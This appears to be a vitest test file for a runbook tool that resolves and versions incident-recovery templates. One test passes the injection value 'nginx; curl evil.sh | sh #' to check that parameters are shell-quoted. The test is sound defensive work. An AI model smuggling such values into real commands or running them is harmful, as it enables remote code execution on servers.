import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Lifeboat } from '../api/lifeboat';
import type { StepSpec } from './model';
import { planInputOf } from './plan-input';
import { failure, lifeboatWithEstate } from './test-kit';

const step = <K extends StepSpec['kind']>(steps: StepSpec[], kind: K) =>
  steps.find((s): s is Extract<StepSpec, { kind: K }> => s.kind === kind);

const own = (text = 'The edge dashboard shows 5xx.') => `# kept as written, comments too
name: billing
system: billing
steps:
  - id: check-symptoms
    kind: check
    title: Confirm 502s
    text: ${text}
  - id: restore-config
    kind: restore
    title: Put nginx.conf back
    scope: server:web-1:/etc/nginx
    paths: [/etc/nginx/nginx.conf]
    before: incident
`;

describe('default templates, filled in from each scope kind', () => {
  let lifeboat: Lifeboat;
  beforeAll(async () => {
    lifeboat = await lifeboatWithEstate();
  });
  afterAll(() => lifeboat.close());

  it('a server path: restore-server-file, everything in place, the http check skipped without a URL', async () => {
    const r = await lifeboat.call('runbook.resolve', { system: 'billing' });
    expect(r.origin).toBe('default');
    expect(r.why).toContain('server:web-1:/etc/nginx');
    expect(r.runbook).toMatchObject({
      name: 'restore-server-file',
      source: 'built-in',
      instance: { system: 'billing', scope: 'server:web-1:/etc/nginx' },
      owner: { team: 'payments', contact: '#payments-oncall' },
      ownerFromSystem: true,
    });
    const restore = step(r.runbook.steps, 'restore');
    expect(restore).toMatchObject({ scope: 'server:web-1:/etc/nginx', before: 'incident' });
    expect(restore?.paths).toBeUndefined();
    const verify = step(r.runbook.steps, 'verify');
    expect(verify?.checks).toEqual([{ type: 'fileHash', scope: 'server:web-1:/etc/nginx' }]);
    expect(verify?.skipped).toEqual([
      { type: 'http', reason: 'url is empty: parameter "healthUrl" has no value' },
    ]);
    expect(step(r.runbook.steps, 'check')?.text).toContain('under /etc/nginx on web-1');
    expect(r.runbook.steps.map((s) => s.kind)).toEqual(['check', 'approve', 'restore', 'verify', 'note']);
  });

  it('takes values given for the run: one file, and a health URL', async () => {
    const r = await lifeboat.call('runbook.resolve', {
      system: 'billing',
      parameters: { file: '/etc/nginx/nginx.conf', healthUrl: 'https://billing.example/healthz' },
    });
    const restore = step(r.runbook.steps, 'restore');
    expect(restore?.paths).toEqual(['/etc/nginx/nginx.conf']);
    expect(step(r.runbook.steps, 'verify')?.checks.map((c) => c.type)).toEqual(['fileHash', 'http']);
    expect(r.runbook.parameters.find((p) => p.name === 'file')?.value).toBe('/etc/nginx/nginx.conf');
    expect(planInputOf(restore!, { incidentStart: '2026-11-26T03:00:00Z' })).toEqual({
      scope: 'server:web-1:/etc/nginx',
      paths: ['/etc/nginx/nginx.conf'],
      before: '2026-11-26T03:00:00Z',
      deleteExtra: false,
      conflict: 'update',
    });
    expect(() => planInputOf(restore!)).toThrow(/when the incident started/);
  });

  it('a namespace: recover-namespace, with the rollout of every Deployment and StatefulSet', async () => {
    const r = await lifeboat.call('runbook.resolve', { system: 'shop' });
    expect(r.runbook.name).toBe('recover-namespace');
    expect(step(r.runbook.steps, 'restore')?.scope).toBe('cluster:prod:namespace/shop');
    expect(step(r.runbook.steps, 'verify')?.checks).toEqual([
      { type: 'rollout', cluster: 'prod', namespace: 'shop', kind: 'Deployment', timeoutSeconds: 600 },
      { type: 'rollout', cluster: 'prod', namespace: 'shop', kind: 'StatefulSet', timeoutSeconds: 900 },
    ]);
  });

  it('one object: roll-back-workload, with its rollout — skipped for an object that has none', async () => {
    const r = await lifeboat.call('runbook.resolve', { system: 'api' });
    expect(r.runbook.name).toBe('roll-back-workload');
    expect(step(r.runbook.steps, 'verify')?.checks).toEqual([
      {
        type: 'rollout',
        cluster: 'prod',
        namespace: 'shop',
        kind: 'Deployment',
        name: 'api',
        timeoutSeconds: 600,
      },
    ]);
    await lifeboat.call('system.add', {
      name: 'settings',
      ownerTeam: 'platform',
      rpo: '24h',
      rto: '1h',
      repository: 'usb',
      scopes: ['cluster:prod:namespace/shop/ConfigMap/settings'],
    });
    const c = await lifeboat.call('runbook.resolve', { system: 'settings' });
    expect(step(c.runbook.steps, 'verify')).toMatchObject({
      checks: [],
      skipped: [
        {
          type: 'rollout',
          reason: 'a ConfigMap has no rollout to wait for (only Deployment and StatefulSet)',
        },
      ],
    });
  });

  it('checks the values once filled in, at the lines of the template', async () => {
    const bad = await failure(lifeboat, 'runbook.resolve', {
      system: 'billing',
      parameters: { file: 'nginx.conf', healthUrl: 'gopher://x' },
    });
    expect(bad.code).toBe('runbook.bad_parameters');
    expect(bad.message).toContain('Runbook "restore-server-file" for system "billing"');
    const template = readFileSync(
      new URL('../../assets/runbooks/restore-server-file.yaml', import.meta.url),
      'utf8',
    );
    const urlLine = template.split('\n').findIndex((l) => l.includes("url: '{{healthUrl}}'")) + 1;
    expect(bad.details?.issues?.find((i) => i.message.includes('gopher://x'))?.line).toBe(urlLine);
    expect(bad.message).toContain('"nginx.conf" is not an absolute path');
    const unknown = await failure(lifeboat, 'runbook.resolve', {
      system: 'billing',
      parameters: { fil: '/x' },
    });
    expect(unknown.code).toBe('runbook.unknown_parameter');
    expect(unknown.message).toContain('"fil"');
  });

  it('lists, shows and exports the built-in templates exactly as shipped; they cannot be removed', async () => {
    const { runbooks } = await lifeboat.call('runbook.list', {});
    expect(runbooks.map((r) => [r.name, r.source, r.defaultFor])).toEqual([
      ['restore-server-file', 'built-in', 'server-path'],
      ['recover-namespace', 'built-in', 'cluster-namespace'],
      ['roll-back-workload', 'built-in', 'cluster-resource'],
    ]);
    const shipped = readFileSync(
      new URL('../../assets/runbooks/recover-namespace.yaml', import.meta.url),
      'utf8',
    );
    expect((await lifeboat.call('runbook.export', { name: 'recover-namespace' })).yaml).toBe(shipped);
    const got = await lifeboat.call('runbook.get', { name: 'recover-namespace' });
    expect(got.runbook).toMatchObject({ template: true, appliesTo: 'cluster-namespace' });
    expect(step(got.runbook.steps, 'restore')?.scope).toBe('{{scope}}');
    expect((await failure(lifeboat, 'runbook.remove', { name: 'recover-namespace' })).code).toBe(
      'runbook.built_in',
    );
  });
});

describe('runbooks in the catalog', () => {
  let lifeboat: Lifeboat;
  beforeAll(async () => {
    lifeboat = await lifeboatWithEstate();
  });
  afterAll(() => lifeboat.close());

  it('versions: a changed text is a new version, the same text is not; every version is kept as written', async () => {
    const first = await lifeboat.call('runbook.import', { yaml: own(), filename: 'billing.yaml' });
    expect(first).toMatchObject({ version: 1, created: true });
    expect(first.runbook).toMatchObject({
      system: 'billing',
      ownerFromSystem: true,
      owner: { team: 'payments' },
    });
    expect(await lifeboat.call('runbook.import', { yaml: own() })).toMatchObject({
      version: 1,
      created: false,
    });
    const second = await lifeboat.call('runbook.import', { yaml: own('Now 503s too.') });
    expect(second).toMatchObject({ version: 2, created: true });

    expect((await lifeboat.call('runbook.export', { name: 'billing', version: 1 })).yaml).toBe(own());
    expect((await lifeboat.call('runbook.export', { name: 'billing' })).yaml).toBe(own('Now 503s too.'));
    const v1 = await lifeboat.call('runbook.get', { name: 'billing', version: 1 });
    expect(v1.runbook).toMatchObject({ version: 1, latestVersion: 2, filename: 'billing.yaml' });
    expect(v1.versions.map((v) => v.version)).toEqual([2, 1]);
    expect((await failure(lifeboat, 'runbook.get', { name: 'billing', version: 3 })).message).toContain(
      'has no version 3',
    );
    const listed = (await lifeboat.call('runbook.list', {})).runbooks.find((r) => r.name === 'billing');
    expect(listed).toMatchObject({ source: 'catalog', system: 'billing', version: 2, steps: 2 });
    const { entries } = await lifeboat.call('journal.list', {});
    expect(entries.filter((e) => e.action === 'runbook.imported').map((e) => e.details.version)).toEqual([
      2, 1,
    ]);
  });

  it("a system's own runbook is the one a run uses; removing it falls back to the default", async () => {
    const r = await lifeboat.call('runbook.resolve', { system: 'billing' });
    expect(r).toMatchObject({ origin: 'own', runbook: { name: 'billing', version: 2 } });
    expect(await lifeboat.call('runbook.remove', { name: 'billing' })).toEqual({
      removed: 'billing',
      versions: 2,
    });
    expect((await lifeboat.call('runbook.resolve', { system: 'billing' })).origin).toBe('default');
    expect((await failure(lifeboat, 'runbook.get', { name: 'billing' })).code).toBe('runbook.not_found');
    expect(await lifeboat.call('runbook.import', { yaml: own() })).toMatchObject({
      version: 3,
      created: true,
    });
    const { entries } = await lifeboat.call('journal.list', {});
    expect(entries.find((e) => e.action === 'runbook.removed')).toMatchObject({
      subject: 'billing',
      details: { versions: 2 },
    });
  });

  it('several runbooks of one system: the one named like it, else the caller must choose', async () => {
    await lifeboat.call('runbook.import', { yaml: own().replace('name: billing', 'name: billing-db') });
    expect((await lifeboat.call('runbook.resolve', { system: 'billing' })).runbook.name).toBe('billing');
    await lifeboat.call('runbook.remove', { name: 'billing' });
    await lifeboat.call('runbook.import', { yaml: own().replace('name: billing', 'name: billing-edge') });
    const ambiguous = await failure(lifeboat, 'runbook.resolve', { system: 'billing' });
    expect(ambiguous).toMatchObject({ code: 'runbook.ambiguous' });
    expect(ambiguous.message).toContain('billing-db, billing-edge');
    const named = await lifeboat.call('runbook.resolve', { system: 'billing', name: 'billing-edge' });
    expect(named).toMatchObject({ origin: 'own', runbook: { name: 'billing-edge' } });
    expect((await failure(lifeboat, 'runbook.resolve', { system: 'shop', name: 'billing-edge' })).code).toBe(
      'runbook.wrong_system',
    );
  });

  it("a template by name is filled in from the system's first scope of its kind", async () => {
    const template = `name: drain-namespace
appliesTo: cluster-namespace
owner: { team: sre, contact: '#sre' }
parameters:
  scope: {}
  namespace: {}
steps:
  - { id: restore, kind: restore, title: 'Restore {{namespace}}', to: 'cluster:prod:namespace/{{namespace}}-check' }
`;
    await lifeboat.call('runbook.import', { yaml: template });
    const r = await lifeboat.call('runbook.resolve', { system: 'billing', name: 'drain-namespace' });
    expect(r.origin).toBe('template');
    expect(r.runbook.owner).toEqual({ team: 'sre', contact: '#sre' });
    expect(step(r.runbook.steps, 'restore')).toMatchObject({
      title: 'Restore billing',
      scope: 'cluster:prod:namespace/billing',
      to: 'cluster:prod:namespace/billing-check',
    });
    expect(
      (await failure(lifeboat, 'runbook.resolve', { system: 'api', name: 'drain-namespace' })).code,
    ).toBe('runbook.no_scope');
  });

  it('puts each parameter into a command as one quoted word, whatever it holds', async () => {
    const template = `name: restart-service
appliesTo: server-path
parameters:
  scope: {}
  server: {}
  path: {}
  service: { default: nginx }
steps:
  - { id: restart, kind: command, title: 'Restart {{service}}', server: '{{server}}', command: 'sudo systemctl restart {{service}} && ls {{path}}' }
  - id: verify
    kind: verify
    title: Up
    checks:
      - ssh: { server: '{{server}}', command: "docker inspect -f '{{.State.Status}}' {{service}}" }
`;
    await lifeboat.call('runbook.import', { yaml: template });
    const r = await lifeboat.call('runbook.resolve', {
      system: 'billing',
      name: 'restart-service',
      parameters: { service: 'nginx; curl evil.sh | sh #' },
    });
    expect(step(r.runbook.steps, 'command')).toMatchObject({
      title: 'Restart nginx; curl evil.sh | sh #',
      command: "sudo systemctl restart 'nginx; curl evil.sh | sh #' && ls '/etc/nginx'",
    });
    expect(step(r.runbook.steps, 'verify')?.checks).toEqual([
      expect.objectContaining({
        type: 'ssh',
        server: 'web-1',
        command: "docker inspect -f '{{.State.Status}}' 'nginx; curl evil.sh | sh #'",
      }),
    ]);
  });

  it("a template with a built-in's name replaces that default at this site, until removed", async () => {
    const shipped = (await lifeboat.call('runbook.export', { name: 'recover-namespace' })).yaml;
    const site = shipped.replace('approvers: 1', 'approvers: 2');
    await lifeboat.call('runbook.import', { yaml: site });
    const r = await lifeboat.call('runbook.resolve', { system: 'shop' });
    expect(r).toMatchObject({
      origin: 'default',
      runbook: { source: 'catalog', defaultFor: 'cluster-namespace' },
    });
    expect(step(r.runbook.steps, 'approve')?.approvers).toBe(2);
    const names = (await lifeboat.call('runbook.list', {})).runbooks.map((x) => `${x.name}:${x.source}`);
    expect(names.filter((n) => n.startsWith('recover-namespace'))).toEqual(['recover-namespace:catalog']);
    await lifeboat.call('runbook.remove', { name: 'recover-namespace' });
    expect((await lifeboat.call('runbook.resolve', { system: 'shop' })).runbook.source).toBe('built-in');
    const wrong = await failure(lifeboat, 'runbook.import', {
      yaml: own().replace('name: billing', 'name: recover-namespace'),
    });
    expect(wrong.code).toBe('runbook.invalid');
    expect(wrong.details?.issues?.[0]).toMatchObject({ line: 2 });
    expect(wrong.message).toContain('is a built-in template');
  });
});
